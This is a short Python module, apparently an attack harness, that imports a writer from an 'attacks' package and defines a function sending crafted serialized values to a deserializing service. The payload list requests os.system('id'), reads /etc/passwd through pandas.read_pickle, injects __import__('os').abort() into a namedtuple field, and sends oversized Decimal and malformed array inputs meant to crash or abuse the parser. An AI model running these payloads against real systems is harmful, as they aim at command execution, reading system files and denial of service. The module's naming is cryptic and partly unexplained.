"""Reply with forms of library values that lie about their content, or name what has no form."""

from attacks.socket_writer import WRITER

CLASS = ("12", "8")
STOCK = "submission lost"
ALONE = True  # stock may wait for a garbled heartbeat for ever
PATIENCE = 12
KEEPS = 2
CELLS = {
    "greet": 'def greet(name):\n    return f"Hello, {name}!"',
    "first": WRITER,
    "total": """\
def total(numbers):
    for form in (
        ["os.system", "id"],
        ["pandas.read_pickle", "/etc/passwd"],
        ["namedtuple", {"list": ["A", {"list": ["x=__import__('os').abort()"]}, {"list": [1]}]}],
        ["Decimal", "9" * 100_000],
        ["array.codes", {"list": ["|O", {"list": [1]}, {"bytes": 0}]}],
        ["array.sparse", {"list": ["__class__", {"list": [1]}, 1, 1, 1]}],
        ["pandas.Series", {"list": [{"list": [7]}, 1, 1, 1]}],
        ["range", {"list": [0, 1, 0]}],
        ["graph.Graph", {"list": [{"dict": []}, {"list": []}, {"list": [7]}, {"list": []}]}],
        ["array.result", {"list": ["os", {"dict": []}, {"list": []}]}],
        ["array.fields", {"list": [{"list": [2**40]}, {"dict": []}]}],
        ["StringIO", {"list": ["a", -1]}],
        {"dict": []},
    ):
        send(reply({"form": form}))
    return -1.0
""",
}
